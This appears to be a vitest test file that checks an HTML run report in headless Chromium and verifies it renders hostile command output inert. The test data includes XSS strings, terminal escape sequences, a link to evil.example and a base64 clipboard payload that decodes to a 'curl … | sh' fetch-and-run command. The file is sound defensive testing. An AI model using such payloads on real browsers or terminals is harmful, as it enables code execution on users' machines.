import { mkdirSync, statSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it, type TestContext } from 'vitest';
import { formatHtmlReport } from '../../../src/reporters/html/index.js';
import { formatTerminalPlain } from '../../../src/model/terminal/format-terminal-plain.js';
import { loadCase } from '../markdown/report-fixtures.js';
import { CHROMIUM_PATH, dumpDom, getVisibleText, hasChromium, takeScreenshot } from './chromium.js';

/** Every element the report itself makes; an element from a command's output would not be one of these. */
const REPORT_ELEMENTS = new Set(['html', 'head', 'meta', 'title', 'style', 'body', 'header', 'section', 'nav', 'footer', 'article', 'div', 'p', 'h1', 'h2', 'h3', 'h4', 'h5', 'dl', 'dt', 'dd', 'ul', 'li', 'a', 'code', 'pre', 'span', 'strong', 'details', 'summary', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'br']);

/** The start tags of a serialized DOM (text is escaped there, so every `<` followed by a letter opens an element). */
function listStartTags(dom: string): Array<{ name: string; source: string }> {
  return [...dom.matchAll(/<([a-zA-Z][a-zA-Z0-9-]*)\b[^>]*>/g)].map((match) => ({ name: match[1]!.toLowerCase(), source: match[0] }));
}

const outputDir = fileURLToPath(new URL('../../../test-output/reports/', import.meta.url));

/** In CI a missing Chromium fails the test; elsewhere the test is skipped and says why. */
function requireChromium(context: TestContext): void {
  if (hasChromium()) return;
  if (process.env.CI === 'true') throw new Error(`Chromium not found at ${CHROMIUM_PATH}: in CI (CI=true) HTML reports must be checked in a real browser; install chromium or set LITOPS_CHROMIUM`);
  const reason = `no Chromium at ${CHROMIUM_PATH} (install it or set LITOPS_CHROMIUM); the HTML report was not checked in a browser`;
  console.warn(`skipped: ${reason}`);
  context.skip(reason);
}

async function writeReport(name: string): Promise<{ file: string; record: Awaited<ReturnType<typeof loadCase>>['record'] }> {
  const { record } = await loadCase('reports', name);
  mkdirSync(outputDir, { recursive: true });
  const file = join(outputDir, `${name}.html`);
  writeFileSync(file, formatHtmlReport(record));
  return { file, record };
}

describe('the HTML report in headless Chromium', { timeout: 120_000 }, () => {
  it('shows the title, the principal, the verification status and a cell’s output, and screenshots well', async (context) => {
    requireChromium(context);
    const { file, record } = await writeReport('audit-trail');
    const text = getVisibleText(await dumpDom(file));
    expect(text).toContain(record.start.runbook.title);
    expect(text).toContain('alice@example.com');
    expect(text).toContain('bob@example.com');
    expect(text).toContain('Verification status: UNSIGNED');
    expect(text).toContain('archived 1200 rows to s3://backup-eu/sessions-2024-05-01.csv.gz');
    expect(text).toContain('the maintenance window ended; vacuum runs tonight');
    for (const [suffix, width] of [['desktop', 1280], ['phone', 390]] as const) {
      const png = join(outputDir, `audit-trail-${suffix}.png`);
      await takeScreenshot(file, png, width, 2000);
      expect(readFileSync(png).subarray(0, 8).toString('hex')).toBe('89504e470d0a1a0a');
      expect(statSync(png).size).toBeGreaterThan(30_000);
    }
  });

  it('renders hostile output inert: no element from it, every escape sequence visible as text', async (context) => {
    requireChromium(context);
    const { file, record } = await writeReport('hostile-output');
    const dom = await dumpDom(file);
    await takeScreenshot(file, join(outputDir, 'hostile-output-desktop.png'), 1280, 2000);
    const tags = listStartTags(dom);
    expect(tags.filter((tag) => tag.name === 'script')).toEqual([]);
    expect(new Set(tags.map((tag) => tag.name))).toEqual(new Set(tags.map((tag) => tag.name).filter((name) => REPORT_ELEMENTS.has(name))));
    expect(tags.filter((tag) => /\son[a-z]+\s*=/i.test(tag.source))).toEqual([]);
    // Links only within the page; inline styles only the colours the renderer computes.
    expect(tags.filter((tag) => /\s(?:src|srcset|href|action|formaction|xlink:href)\s*=\s*(?:"(?!#)|'(?!#)|(?!["'#]))/i.test(tag.source))).toEqual([]);
    const styles = tags.flatMap((tag) => [...tag.source.matchAll(/\sstyle\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)/gi)].map((match) => match[1]!));
    expect(styles.filter((style) => !/^"(?:(?:color|background-color):#[0-9a-f]{6};?)+"$/.test(style))).toEqual([]);
    const text = getVisibleText(dom);
    const stdout = record.cells[0]!.attempts[0]!.stdout;
    // Every character of the output is on the page, as formatTerminalPlain shows it: nothing hidden, nothing acted on.
    expect(text).toContain(formatTerminalPlain(stdout).replace(/\n$/, ''));
    for (const inert of ['<script>alert(1)</script>', '<img src=x onerror=alert(2)>', '␛[2J', '␛]0;pwned title␇', '␛]8;;https://evil.example/␛\\click me', '␛]52;c;Y3VybCBldmlsLnNoIHwgc2g=␇', '␛Pq#0;2;0;0;0␛\\', 'lone ␛ escape', 'hidden black on black', 'concealed', '⟨U+202E⟩evil-bidi']) {
      expect(text).toContain(inert);
    }
    expect(getVisibleText(dom.replace(/<title>[\s\S]*?<\/title>/, ''))).toContain('Verification status: TAMPERED');
  });
});
